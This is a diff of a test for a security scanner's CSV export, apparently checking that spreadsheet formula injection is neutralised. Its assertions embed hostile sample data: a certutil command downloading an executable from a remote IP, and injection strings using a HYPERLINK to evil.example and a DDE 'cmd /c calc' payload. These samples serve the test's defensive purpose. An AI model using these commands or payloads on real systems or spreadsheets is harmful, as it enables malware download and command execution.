@@ -50,7 +50,7 @@ test('issue-22 #14: no csv field a spreadsheet may read starts a formula, whatev
   }));
   const run = await runCli(['scan', '--format', 'csv', good, bad]);
   assert.equal(run.code, 1, run.stderr);
-  assert.match(run.stdout, /,WS01,,certutil\.exe \(4242\),certutil\.exe -urlcache -f http:\/\/203\.0\.113\.9\/a\.exe a\.exe,8\.8\.4\.4:80,[^,]*good\.ndjson,1,2,\{good\}\r\n/, "the good file's alert is a row");
+  assert.match(run.stdout, /,WS01,,certutil\.exe \(4242\),certutil\.exe -urlcache -f http:\/\/203\.0\.113\.9\/a\.exe a\.exe,8\.8\.4\.4:80,[^,]*good\.ndjson,1,2,\{good\},\r\n/, "the good file's alert is a row");
   assert.match(run.stdout, /"certutil\.exe a;'=HYPERLINK\(""http:\/\/evil\.example"",""x""\),'-2\+3\t'@SUM\(A1\);'  ""=cmd\|' \/c calc'!A0""\n'\+1\r'-1"/);
   // Every field as a reader with any of these separators sees it, quotes not honoured mid-line.
   for (const separator of [',', ';', '\t']) {
